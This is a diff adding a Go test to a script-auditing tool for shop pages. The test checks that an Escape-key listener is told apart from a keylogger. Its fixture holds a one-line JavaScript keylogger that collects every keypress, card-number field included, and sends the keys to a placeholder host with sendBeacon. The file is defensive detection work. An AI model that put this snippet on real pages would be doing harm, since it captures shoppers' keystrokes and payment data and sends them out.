@@ -1,11 +1,15 @@
 package page
 
 import (
+	"crypto/rand"
 	"fmt"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/tillwatch/tillwatch"
+	"github.com/tillwatch/tillwatch/canary"
 	"github.com/tillwatch/tillwatch/sensor/page/browser"
 )
 
@@ -117,6 +121,28 @@ func TestAuditsHoldNothingThatWasTyped(t *testing.T) {
 	for _, item := range v.cardItems("page https://shop.example/") {
 		if strings.Contains(item.Place, card) {
 			t.Error(item.Place)
+		}
+	}
+}
+
+// A widget that closes at a press of Escape hears every key, in card fields as well; a logger of keys hears the same.
+func TestWhoHearsKeysWithoutTakingThem(t *testing.T) {
+	t.Parallel()
+	for source, want := range map[string]bool{
+		"document.addEventListener('keydown', function (e) { var k = e.key; if (k === 'Escape') box.hidden = true; }); fetch('https://chat.example/hello', {method: 'POST', body: JSON.stringify({page: location.pathname})})": false,
+		"var b = ''; document.addEventListener('keydown', function (e) { b += e.key; if (b.length > 20) { navigator.sendBeacon('https://chat.example/hello', b); b = ''; } })":                                                 true,
+	} {
+		call := browser.Call{ScriptID: "4", Line: 1, Column: strings.Index(source, "e.key") + 3, URL: "https://chat.example/w.js"}
+		v := &visit{
+			set:     canary.Mint(rand.Reader, "ja", time.Now()),
+			scripts: []browser.Script{{ID: "4", Session: "s", Kind: "external", URL: "https://chat.example/w.js", Source: source, SHA256: "4"}},
+			reads:   []browser.Read{{Session: "s", How: "key", Field: "cardnumber", Stack: []browser.Call{call}}},
+		}
+		v.audits.after.Listeners = []browser.Listener{{On: "document", Type: "keydown", Session: "s", Call: call}}
+		can := map[scriptKey][]tillwatch.Capability{{"s", "4"}: {tillwatch.Reads("card")}}
+		v.audited(can, ourShop)
+		if got := slices.Contains(can[scriptKey{"s", "4"}], tillwatch.Reads("card")); got != want {
+			t.Errorf("%s: %v", source, got)
 		}
 	}
 }
